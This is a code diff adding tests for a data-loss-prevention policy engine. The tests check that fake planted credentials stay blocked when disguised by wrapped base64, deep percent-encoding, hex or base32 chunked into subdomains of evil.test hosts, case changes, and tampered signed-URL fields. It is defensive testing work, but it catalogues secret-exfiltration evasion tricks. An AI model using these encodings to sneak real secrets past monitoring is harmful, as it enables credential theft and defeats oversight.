@@ -1,5 +1,6 @@
 // Evasion: the same planted secret hidden behind every encoding trick the reference lists.
 // Each case must still be blocked by a DLP stage.
+import { createHash } from 'node:crypto';
 import t, { type Test } from 'tap';
 import { dlpOnlyPolicy, evaluate, type HttpRequest } from '../../lib/policy/index.js';
 import { encodeBase32 } from '../../lib/policy/decoders.js';
@@ -100,4 +101,75 @@ t.test('body encodings', async (t) => {
   // A content line that merely starts with the boundary text must not end the part early.
   const tricky = `--${boundary}\r\nContent-Transfer-Encoding: base64\r\n\r\n${b64(`x ${S}`)}\r\n--${boundary}X not a delimiter\r\n--${boundary}--\r\n`;
   blockedByDlp(t, post(tricky, `multipart/form-data; boundary=${boundary}`), 'boundary prefix inside content', /base64/);
+});
+
+// Issue 13, class 4: shapes that hid a secret from every decoder before.
+t.test('encodings and shapes: wrapped base64, binary, deep percent-encoding, label chains, case', async (t) => {
+  const wrap = (s: string, cols: number, eol: string) => s.match(new RegExp(`.{1,${cols}}`, 'g'))!.join(eol);
+  // The secret starts 4 bytes before a line ends (lines hold 48 bytes at 64 columns, 57 at 76),
+  // so no single line decodes to enough of it.
+  const blob = (cols: 64 | 76) => b64(`${'#'.repeat(cols === 64 ? 44 : 53)}${S} ${'#'.repeat(50)}`);
+  blockedByDlp(t, post(JSON.stringify({ blob: wrap(blob(76), 76, '\n') }), 'application/json'), 'base64 wrapped at 76 columns (base64)', /base64-decoded JSON value/);
+  blockedByDlp(t, post(wrap(blob(64), 64, '\r\n'), 'text/plain'), 'base64 wrapped at 64 columns, CRLF (openssl)', /base64-decoded body/);
+  blockedByDlp(t, post(`attachment:\n${wrap(blob(76), 76, '\r\n')}\n`, 'text/plain'), 'wrapped base64 inside prose', /base64-decoded body/);
+  const binary = Buffer.concat([Buffer.from([0x50, 0x4b, 3, 4, 0, 0, 0x80, 0xff]), Buffer.from(S), Buffer.from([0, 0x9c, 0xfe, 1, 2, 3])]);
+  blockedByDlp(t, post(JSON.stringify({ file: binary.toString('base64') }), 'application/json'), 'base64 of binary with the secret inside', /base64-decoded JSON value/);
+  // Decoding used to stop after 3 rounds, at each of 3 nested layers: 13 layers got through.
+  let nested = [...S].map((c) => `%${c.charCodeAt(0).toString(16)}`).join('');
+  for (let i = 1; i < 13; i++) nested = encodeURIComponent(nested);
+  blockedByDlp(t, get(`https://x.test/?q=${nested}`), 'percent-encoding 13 deep in a query value', /query value/);
+  blockedByDlp(t, post(`q=${nested}`, 'application/x-www-form-urlencoded'), 'percent-encoding 13 deep in a form value', /form value/);
+  const labels = (s: string, n: number) => s.match(new RegExp(`.{1,${n}}`, 'g'))!.join('.');
+  const hx = hex(FAKE.github);
+  blockedByDlp(t, get(`https://${labels(hx, 40)}.evil.test/`), 'hex over labels', /subdomain|hostname/);
+  blockedByDlp(t, get(`https://7.${labels(hx, 30)}.exfil.evil.test/`), 'hex over labels after a counter label, before a word label', /hex-decoded hostname labels/);
+  blockedByDlp(t, get(`https://q7.${labels(encodeBase32(Buffer.from(FAKE.github)).toLowerCase(), 20)}.www.evil.test/`), 'base32 over labels after a label that shifts its alignment', /base32-decoded hostname labels/);
+  blockedByDlp(t, post(`k=${FAKE.github.replace('ghp_', 'GHP_')}`, 'text/plain'), 'GHP_ prefix in upper case', /github-token/);
+  blockedByDlp(t, post(`k=${S.replace('sk-ant-', 'SK-ANT-')}`, 'text/plain'), 'SK-ANT- prefix in upper case', /anthropic-api-key/);
+  blockedByDlp(t, get(`https://x.test/?id=${FAKE.awsKeyId.toLowerCase()}`), 'AWS key id in lower case', /aws-access-key-id/);
+});
+
+t.test('encodings and shapes: ordinary data of the same shapes passes', async (t) => {
+  const image = Buffer.alloc(48 * 1024);
+  for (let i = 0; i < image.length; i++) image[i] = (i * 2654435761) >>> 24;
+  const dataUrl = `data:image/png;base64,${image.toString('base64')}`;
+  t.match(evaluate(open, post(JSON.stringify({ image: dataUrl }), 'application/json')), { verdict: 'allow' }, 'long base64 image data');
+  t.match(evaluate(open, post(image.toString('base64').match(/.{1,76}/g)!.join('\n'), 'text/plain')), { verdict: 'allow' }, 'wrapped base64 of binary');
+  for (const host of ['api.github.com', 'files.pythonhosted.org', 'objects.githubusercontent.com', 'd3f7a9c2b1e4.cloudfront.net', 'ec2-3-120-45-67.eu-central-1.compute.amazonaws.com']) {
+    t.match(evaluate(open, get(`https://${host}/x`)), { verdict: 'allow' }, host);
+  }
+  for (const word of ['asiapacificregionsoutheast', 'asiapacificregionsou', 'Asiapacificregionsou']) {
+    t.match(evaluate(open, get(`https://x.test/search?q=${word}`)), { verdict: 'allow' }, `${word}: a word that starts like an AWS prefix`);
+  }
+  t.match(evaluate(open, post('100%25 done, 50%2525 of 20%', 'text/plain')), { verdict: 'allow' }, 'percent signs in prose');
+});
+
+// Issue 13, "what must keep passing", the other side: the exemptions for signed URLs, digests
+// and placeholders explain a whole value or nothing, so a secret inside one is still found.
+t.test('signed-URL shapes carrying a secret', async (t) => {
+  const scope = `${FAKE.awsKeyId}/20261207/us-east-1/s3/aws4_request`;
+  const secretKey = createHash('sha256').update('secret key').digest().subarray(0, 30).toString('base64'); // 40 characters, as AWS's
+  const presigned = (credential: string) => get(`https://b.s3.test/k?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=${encodeURIComponent(credential)}&X-Amz-Date=20261207T045600Z`);
+  blockedByDlp(t, presigned(`${scope}/${secretKey}`), 'secret key after the scope', /aws-access/);
+  blockedByDlp(t, presigned(`${scope}${secretKey}`), 'secret key glued to aws4_request', /aws-access/);
+  blockedByDlp(t, presigned(`${secretKey}${scope}`), 'secret key before the key id', /aws-access/);
+  blockedByDlp(t, presigned(scope.replace('/us-east-1/', '/us-east-1/x/')), 'not exactly a scope', /aws-access/);
+  blockedByDlp(t, presigned(`${scope.replace('AKIA', 'AKIAQ')}`), 'a 21-character id', /aws-access/);
+  blockedByDlp(t, presigned(scope.replace('/s3/', `/${S}/`)), 'a token as the service', /anthropic-api-key/);
+  const auth = (credential: string) => get('https://b.s3.test/k', { Authorization: `AWS4-HMAC-SHA256 Credential=${credential}, SignedHeaders=host, Signature=${'0f'.repeat(32)}` });
+  blockedByDlp(t, auth(`${scope}/${secretKey}`), 'Authorization: secret key after the scope', /Authorization header \(aws-access/);
+  blockedByDlp(t, auth(`${scope}${secretKey}`), 'Authorization: secret key glued on', /Authorization header \(aws-access/);
+  // Exempt from entropy as a digest (32 binary-looking bytes), yet its decoding is still scanned.
+  const sig = Buffer.concat([Buffer.from(FAKE.awsKeyId), Buffer.alloc(12, 0xfe)]).toString('base64');
+  blockedByDlp(t, get(`https://a.blob.test/c/b?sv=2022-11-02&sig=${encodeURIComponent(sig)}`), 'a token inside a 32-byte sig', /base64-decoded query value \(aws-access-key-id\)/);
+  blockedByDlp(t, get(`https://x.test/cas/sha256/${Buffer.from(S.slice(0, 32)).toString('base64url')}`), 'a token prefix as a base64url "hash" path segment', /base64-decoded path segment/);
+});
+
+t.test('placeholders explain a whole value or nothing', async (t) => {
+  const real = 'Xk9mP2vQ7rT4wZ8n';
+  for (const value of [`changeme${real}`, `${real}changeme`, `changeme123${real}`, `your-${real}`, `your-api-key-${real}`]) {
+    blockedByDlp(t, post(`DB_HOST=localhost\nDB_PASSWORD=${value}\n`, 'text/plain'), `DB_PASSWORD=${value.replace(real, '<secret>')}`, /env-var-secret/);
+    blockedByDlp(t, post(`API_KEY=${value}\n`, 'text/plain'), `API_KEY=${value.replace(real, '<secret>')}`, /credential-in-url/);
+  }
+  t.match(evaluate(open, post('DB_PASSWORD=changeme123\nAPI_KEY=your-api-key-here\nSECRET_KEY=replace-me\n', 'text/plain')), { verdict: 'allow' }, 'the placeholders themselves');
 });
